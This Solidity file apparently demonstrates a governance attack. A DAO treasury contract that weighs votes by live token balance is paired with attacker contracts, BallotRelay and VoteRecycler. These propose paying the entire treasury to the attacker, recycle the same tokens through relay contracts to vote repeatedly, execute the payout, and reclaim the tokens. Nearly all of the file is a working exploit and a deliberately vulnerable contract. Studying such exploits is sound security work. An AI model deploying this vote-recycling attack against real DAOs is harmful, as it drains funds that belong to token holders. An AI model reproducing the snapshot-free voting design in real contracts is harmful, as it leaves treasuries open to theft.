// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

interface IVotes {
    function balanceOf(address holder) external view returns (uint256);
    function totalSupply() external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @notice A DAO paying ether out by majority vote. A vote weighs the voter's live token balance
///         (no snapshot, no lock), so the same tokens can vote again from another address.
contract TreasuryDao {
    struct Proposal {
        address payable to;
        uint256 amount;
        uint256 votes;
        bool executed;
    }

    IVotes public token;
    Proposal[] public proposals;
    mapping(uint256 => mapping(address => bool)) public voted;

    event Proposed(uint256 indexed id, address to, uint256 amount);
    event Voted(uint256 indexed id, address indexed voter, uint256 weight);
    event Executed(uint256 indexed id);

    constructor(IVotes token_) {
        token = token_;
    }

    receive() external payable {}

    function propose(address payable to, uint256 amount) external returns (uint256 id) {
        proposals.push(Proposal(to, amount, 0, false));
        id = proposals.length - 1;
        emit Proposed(id, to, amount);
    }

    function vote(uint256 id) external {
        require(!voted[id][msg.sender], "TreasuryDao: voted");
        voted[id][msg.sender] = true;
        uint256 weight = token.balanceOf(msg.sender);
        proposals[id].votes += weight;
        emit Voted(id, msg.sender, weight);
    }

    function execute(uint256 id) external {
        Proposal storage proposal = proposals[id];
        require(!proposal.executed, "TreasuryDao: executed");
        require(proposal.votes * 2 > token.totalSupply(), "TreasuryDao: no majority");
        proposal.executed = true;
        (bool ok,) = proposal.to.call{value: proposal.amount}("");
        require(ok, "TreasuryDao: pay");
        emit Executed(id);
    }
}

/// @notice Attacker's extra voter: votes, then passes the tokens on.
contract BallotRelay {
    function voteAndPass(TreasuryDao dao, uint256 id, address next) external {
        dao.vote(id);
        IVotes token = dao.token();
        token.transfer(next, token.balanceOf(address(this)));
    }
}

/// @notice Attacker: proposes to pay itself the treasury and votes with the same tokens from
///         itself and every relay, then executes.
contract VoteRecycler {
    function attack(TreasuryDao dao, BallotRelay[] calldata relays) external {
        IVotes token = dao.token();
        uint256 id = dao.propose(msg.sender, address(dao).balance);
        dao.vote(id);
        token.transfer(address(relays[0]), token.balanceOf(address(this)));
        for (uint256 i = 0; i < relays.length; i++) {
            address next = i + 1 < relays.length ? address(relays[i + 1]) : address(this);
            relays[i].voteAndPass(dao, id, next);
        }
        dao.execute(id);
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}
